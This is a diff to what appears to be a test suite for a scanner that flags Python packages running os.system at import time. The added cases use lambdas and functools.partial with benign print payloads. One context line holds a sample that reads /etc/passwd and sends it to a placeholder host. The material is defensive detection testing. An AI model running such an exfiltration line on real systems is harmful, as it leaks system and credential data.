@@ -122,6 +122,38 @@ tell('http://a.invalid', open('/etc/passwd').read())`,
     ],
   ],
   [
+    'a lambda that is returned, and one that is handed over',
+    {
+      'own/__init__.py': `import os, threading
+def make():
+    return lambda: os.system('print(1)')
+later = make()
+def use(fn):
+    pass
+use(lambda: os.system('print(2)'))`,
+    },
+    [
+      `own/__init__.py:3 call call os.system('print(1)')`,
+      `own/__init__.py:7 import call os.system('print(2)')`,
+    ],
+  ],
+  [
+    'a partial that is kept, and one that is handed over',
+    {
+      'own/__init__.py': `import os, functools, other
+def act(what):
+    os.system(what)
+def start(what):
+    os.system(what + '!')
+later = functools.partial(act, 'print(1)')
+other.run(functools.partial(start, 'print(2)'))`,
+    },
+    [
+      `own/__init__.py:3 call call os.system(…)`,
+      `own/__init__.py:5 import call os.system('…!')`,
+    ],
+  ],
+  [
     'import from tests',
     {
       'own/__init__.py': 'from .tests import evil',
